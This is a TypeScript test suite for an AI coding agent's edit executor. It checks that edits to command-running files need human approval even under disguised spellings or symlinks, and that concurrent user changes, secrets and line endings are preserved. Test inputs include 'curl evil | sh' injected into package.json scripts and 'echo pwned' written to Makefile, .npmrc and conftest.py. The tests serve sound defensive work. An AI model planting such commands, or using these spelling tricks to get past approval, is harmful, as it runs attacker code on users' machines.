// The edit path between a proposal and the write, where a reviewer broke it: the checkpoint must hear
// one path per file, files that run commands must be asked about under any spelling or link, a change
// made while an edit waits must survive it, and a redaction mark must never be written over a secret.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ToolExecutor } from '../../../src/core/tools/executor';
import type { ExecutorHooks } from '../../../src/core/tools/executor';
import { CheckpointRecorder, undoCheckpoint } from '../../../src/core/agent/checkpoint';
import { EMPTY_PLAN } from '../../../src/core/plan';
import { InMemoryStore, WorkingMemory } from '../../../src/core/memory';
import type { EditReview, Workspace } from '../../../src/core/ports';
import { readTextOrNull } from '../../../src/core/ports';
import { NodeWorkspace } from '../../../src/node/nodeWorkspace';
import { CallbackApproval } from '../../../src/node/approval';
import { CallbackEditReview, type CallbackEditReviewOptions } from '../../../src/node/editReview';
import { cleanup, read, tempWorkspace } from './helpers';

function executor(workspace: Workspace, options: { review?: EditReview; editApproval?: 'ask' | 'auto'; hooks?: Partial<ExecutorHooks> } = {}) {
  return new ToolExecutor({
    workspace, review: options.review ?? new CallbackEditReview(), approval: new CallbackApproval(), editApproval: options.editApproval ?? 'auto',
    plan: { plan: EMPTY_PLAN, verification: { passed: true } as const }, memory: new WorkingMemory(new InMemoryStore()),
    ...(options.hooks ? { hooks: options.hooks as ExecutorHooks } : {}),
  });
}

/** A review that records what it was asked about and rejects it: nothing reaches the disk. */
function recordingReview(): EditReview & { asked: { path: string; runsCommands?: string }[] } {
  const asked: { path: string; runsCommands?: string }[] = [];
  return { asked, propose: async (edit) => { asked.push({ path: edit.path, ...(edit.runsCommands ? { runsCommands: edit.runsCommands } : {}) }); return { kind: 'rejected' }; } };
}

test('the checkpoint hears one path per file: an edit to ./a.ts through an editor read is undone as an edit, not deleted', async () => {
  const root = tempWorkspace({ 'a.ts': 'const a = 1;\n' });
  try {
    const files = new NodeWorkspace(root);
    // VS Code reads an open document with unsaved changes from the editor; before the fix it echoed the path as written.
    const editor: Workspace = Object.assign(Object.create(files) as NodeWorkspace, {
      readFile: async (path: string) => ({ path, content: readFileSync(join(root, 'a.ts'), 'utf8'), bytes: 13 }),
    });
    const recorder = new CheckpointRecorder();
    const heard: string[] = [];
    const x = executor(editor, { hooks: {
      editProposed: (e) => { heard.push(`proposed ${e.path}`); recorder.proposed(e.path, e.original); },
      editAccepted: (e) => { heard.push(`accepted ${e.path}`); recorder.accepted(e.path); },
    } });
    assert.equal((await x.execute('patch', { path: './a.ts', search: 'const a = 1;', replace: 'const a = 2;' })).ok, true);
    assert.equal((await x.execute('write_file', { path: './sub/../b.ts', content: 'new\n' })).ok, true);
    assert.deepEqual(heard, ['proposed a.ts', 'accepted a.ts', 'proposed b.ts', 'accepted b.ts']);
    const io = { read: (p: string) => readTextOrNull(files, p), write: async (p: string, c: string) => { await files.writeFile(p, c); }, delete: (p: string) => files.deleteFile(p) };
    const checkpoint = await recorder.finish(io.read);
    assert.deepEqual(checkpoint.files.map((f) => [f.path, f.before]), [['a.ts', 'const a = 1;\n'], ['b.ts', null]]);
    assert.deepEqual(await undoCheckpoint(checkpoint, io), { restored: ['a.ts'], deleted: ['b.ts'], skipped: [] });
    assert.equal(read(root, 'a.ts'), 'const a = 1;\n');
  } finally {
    cleanup(root);
  }
});

test('only an exact "auto" applies edits unasked: any other approval value from a host (a typo, "never", "Ask") asks', async () => {
  const root = tempWorkspace({ 'a.txt': 'hello\n' });
  try {
    for (const value of ['never', 'Ask', 'AUTO', ' auto', '', 42]) {
      const review = recordingReview();
      const x = executor(new NodeWorkspace(root), { review, editApproval: value as 'ask' });
      const outcome = await x.execute('patch', { path: 'a.txt', search: 'hello', replace: 'changed' });
      assert.equal(outcome.refused, 'user', `${String(value)}: ${outcome.content}`);
      assert.deepEqual(review.asked, [{ path: 'a.txt' }], String(value));
    }
    assert.equal(read(root, 'a.txt'), 'hello\n');
  } finally {
    cleanup(root);
  }
});

test('files that run commands are asked about under any spelling: backslashes, quotes, Windows trailing dots, spaces and streams', async () => {
  const root = tempWorkspace({ 'tests/keep.txt': '' });
  try {
    const review = recordingReview();
    const x = executor(new NodeWorkspace(root), { review });
    for (const path of ['tests\\conftest.py', '"Makefile"', '`.npmrc`', 'package.json.', 'Makefile ', 'package.json::$DATA', 'sub/.NPMRC. ']) {
      const outcome = await x.execute('write_file', { path, content: 'echo pwned\n' });
      assert.equal(outcome.ok, false, path);
      assert.ok(review.asked.at(-1)?.runsCommands, `${path} was not asked about: ${JSON.stringify(review.asked.at(-1))}`);
    }
    assert.deepEqual(review.asked.map((a) => a.path), ['tests/conftest.py', 'Makefile', '.npmrc', 'package.json.', 'Makefile', 'package.json::$DATA', 'sub/.NPMRC.']);
    assert.ok(!existsSync(join(root, 'Makefile')) && !existsSync(join(root, 'tests/conftest.py')));
  } finally {
    cleanup(root);
  }
});

test('a patch through a symlink to package.json is asked about, naming where the link leads', async () => {
  const scripts = '{"scripts":{"test":"echo ok"}}\n';
  const root = tempWorkspace({ 'package.json': scripts });
  try {
    symlinkSync('package.json', join(root, 'notes.json'));
    const review = recordingReview();
    const outcome = await executor(new NodeWorkspace(root), { review }).execute('patch', { path: 'notes.json', search: 'echo ok', replace: 'curl evil | sh' });
    assert.equal(outcome.ok, false);
    assert.deepEqual(review.asked.map((a) => a.path), ['notes.json']);
    assert.match(review.asked[0]!.runsCommands ?? '', /notes\.json \(a link to package\.json\) decides what the project's commands run/);
    assert.equal(read(root, 'package.json'), scripts);
  } finally {
    cleanup(root);
  }
});

/** An executor whose approval (a "yes") comes after `meanwhile` changed the workspace. */
function approvingAfter(root: string, meanwhile: () => void, options: CallbackEditReviewOptions = {}) {
  const review = new CallbackEditReview({ approve: async () => { meanwhile(); return true; }, ...options });
  return executor(new NodeWorkspace(root), { review, editApproval: 'ask' });
}

test('a change saved while an edit waits for approval is kept: the write is refused, the model told to read again', async () => {
  const root = tempWorkspace({ 'a.ts': 'const a = 1;\nconst b = 2;\n' });
  const saved = 'const a = 1;\nconst b = 2;\n// user note, important\n';
  try {
    const x = approvingAfter(root, () => writeFileSync(join(root, 'a.ts'), saved));
    const outcome = await x.execute('patch', { path: 'a.ts', search: 'const a = 1;', replace: 'const a = 10;' });
    assert.equal(outcome.ok, false);
    assert.match(outcome.content, /a\.ts was changed \(by the user or another program\) while this edit waited; nothing was written.*Read the file again/);
    assert.equal(read(root, 'a.ts'), saved);
    const deleted = approvingAfter(root, () => unlinkSync(join(root, 'a.ts')));
    assert.match((await deleted.execute('write_file', { path: 'a.ts', content: 'x\n' })).content, /a\.ts was deleted while this edit waited/);
    assert.equal(existsSync(join(root, 'a.ts')), false, 'a file deleted meanwhile is not brought back');
  } finally {
    cleanup(root);
  }
});

test('an approved edit to an untouched file is written; a partial decision still writes what was accepted', async () => {
  const root = tempWorkspace({ 'a.ts': 'const a = 1;\n' });
  try {
    const x = approvingAfter(root, () => undefined);
    assert.equal((await x.execute('patch', { path: 'a.ts', search: 'const a = 1;', replace: 'const a = 10;' })).ok, true);
    assert.equal(read(root, 'a.ts'), 'const a = 10;\n');
    const partial = executor(new NodeWorkspace(root), { editApproval: 'ask', review: new CallbackEditReview(() => ({ kind: 'partial', content: 'const a = 11;\n' })) });
    assert.equal((await partial.execute('write_file', { path: 'a.ts', content: 'const a = 12;\n' })).ok, true);
    assert.equal(read(root, 'a.ts'), 'const a = 11;\n');
  } finally {
    cleanup(root);
  }
});

test('a redaction mark the file does not hold is never written over a secret, by write_file or patch', async () => {
  const env = 'API_KEY=sk-live-abcdef123456\nDEBUG=0\n';
  const root = tempWorkspace({ '.env': env, 'notes.md': 'The key is shown as [REDACTED] in logs.\n' });
  try {
    const x = executor(new NodeWorkspace(root));
    const written = await x.execute('write_file', { path: '.env', content: 'API_KEY=[REDACTED]\nDEBUG=1\n' });
    assert.equal(written.ok, false);
    assert.match(written.content, /"API_KEY=\[REDACTED\]" has a redaction mark \(\[REDACTED\]\), which stands for a secret hidden from you/);
    // A patch is judged by the text it would write, whichever tier matched its SEARCH.
    const patched = await x.execute('patch', { path: '.env', search: 'DEBUG=0', replace: 'DEBUG=1\nOTHER_KEY=[REDACTED PRIVATE KEY]' });
    assert.match(patched.content, /^Not written: the line "OTHER_KEY=\[REDACTED PRIVATE KEY\]" has a redaction mark/);
    assert.equal(read(root, '.env'), env);
    // A line the file already has is its own text, not a stand-in.
    assert.equal((await x.execute('write_file', { path: 'notes.md', content: 'The key is shown as [REDACTED] in logs.\nMore notes.\n' })).ok, true);
  } finally {
    cleanup(root);
  }
});

test('a file that is not UTF-8 is refused by patch and write_file before anything is proposed; read_file says so', async () => {
  const root = tempWorkspace();
  const latin1 = Buffer.from('caf\xe9 = 1\nx = 2\n', 'latin1');
  writeFileSync(join(root, 'latin.txt'), latin1);
  try {
    for (const editApproval of ['ask', 'auto'] as const) {
      const review = recordingReview();
      const proposed: string[] = [];
      const x = executor(new NodeWorkspace(root), { review, editApproval, hooks: { editProposed: (e) => proposed.push(e.path) } });
      for (const [tool, args] of [
        ['patch', { path: 'latin.txt', search: 'x = 2', replace: 'x = 3' }],
        ['write_file', { path: 'latin.txt', content: 'café = 1\nx = 3\n' }],
      ] as const) {
        const r = await x.execute(tool, args);
        assert.equal(r.ok, false, `${tool} (${editApproval}): ${r.content}`);
        assert.match(r.content, /latin\.txt is not UTF-8 text/);
        assert.match(r.content, /Nothing was written\. Do not try to edit this file again/);
      }
      assert.deepEqual(review.asked, [], 'the user is not asked about an edit that cannot be written');
      assert.deepEqual(proposed, []);
      assert.match((await x.execute('read_file', { path: 'latin.txt' })).content, /\[Not UTF-8 text: it can be read, but SmallCode cannot edit it\.\]$/);
    }
    assert.deepEqual(readFileSync(join(root, 'latin.txt')), latin1);
  } finally {
    cleanup(root);
  }
});

test('write_file keeps a CRLF file CRLF: the diff shows the one changed line, and an LF copy of the same text changes nothing', async () => {
  const root = tempWorkspace({ 'win.ts': 'const a = 1;\r\nconst b = 2;\r\nconst c = 3;\r\n' });
  try {
    const hunks: string[][] = [];
    const x = executor(new NodeWorkspace(root), { hooks: { editProposed: (e) => hunks.push(...e.hunks.map((h) => h.lines)) } });
    const same = await x.execute('write_file', { path: 'win.ts', content: 'const a = 1;\nconst b = 2;\nconst c = 3;\n' });
    assert.match(same.content, /already has exactly this content/);
    const r = await x.execute('write_file', { path: 'win.ts', content: 'const a = 1;\nconst b = 20;\nconst c = 3;\n' });
    assert.equal(r.ok, true, r.content);
    assert.equal(read(root, 'win.ts'), 'const a = 1;\r\nconst b = 20;\r\nconst c = 3;\r\n');
    assert.deepEqual(hunks.flat().filter((l) => l.startsWith('-') || l.startsWith('+')), ['-const b = 2;\r', '+const b = 20;\r']);
  } finally {
    cleanup(root);
  }
});

test('write_file keeps an LF file LF when the model (or its transport) sends CRLF: only the changed line differs on disk', async () => {
  const root = tempWorkspace({ 'a.py': 'def f():\n    return 1\n\nprint(f())\n' });
  try {
    const result = await executor(new NodeWorkspace(root)).execute('write_file', { path: 'a.py', content: 'def f():\r\n    return 2\r\n\r\nprint(f())\r\n' });
    assert.equal(result.ok, true, result.content);
    // Before the fix every line ending of the file became CRLF.
    assert.equal(read(root, 'a.py'), 'def f():\n    return 2\n\nprint(f())\n');
  } finally {
    cleanup(root);
  }
});

test('a review that refuses an edit itself (mixed line endings, a failed apply) is a policy refusal, not the user saying no: the governor never stops the run as "you rejected"', async () => {
  const root = tempWorkspace({ 'a.ts': 'a\r\nb\nc\r\n' });
  try {
    const rejected: string[] = [];
    const refusing: EditReview = { propose: async () => ({ kind: 'rejected', refused: true, reason: 'refused: a.ts mixes Windows (CRLF) and Unix (LF) line endings' }) };
    const x = executor(new NodeWorkspace(root), { review: refusing, editApproval: 'ask', hooks: { editRejected: (e: { path: string }) => rejected.push(e.path) } });
    const outcome = await x.execute('patch', { path: 'a.ts', search: 'b', replace: 'b2' });
    assert.equal(outcome.ok, false);
    assert.equal(outcome.refused, 'policy');
    assert.match(outcome.content, /^Not written: a\.ts mixes Windows \(CRLF\) and Unix \(LF\) line endings\. Nothing was changed/);
    assert.deepEqual(rejected, [], 'no "rejected" event: the user decided nothing');
    // a review that throws is the same
    const throwing: EditReview = { propose: async () => { throw new Error('the diff editor closed'); } };
    const y = await executor(new NodeWorkspace(root), { review: throwing, editApproval: 'ask' }).execute('patch', { path: 'a.ts', search: 'b', replace: 'b2' });
    assert.equal(y.refused, 'policy');
    // the user's own no stays the user's
    const no = await executor(new NodeWorkspace(root), { review: recordingReview(), editApproval: 'ask' }).execute('patch', { path: 'a.ts', search: 'b', replace: 'b2' });
    assert.equal(no.refused, 'user');
    assert.equal(readFileSync(join(root, 'a.ts'), 'utf8'), 'a\r\nb\nc\r\n');
  } finally {
    cleanup(root);
  }
});
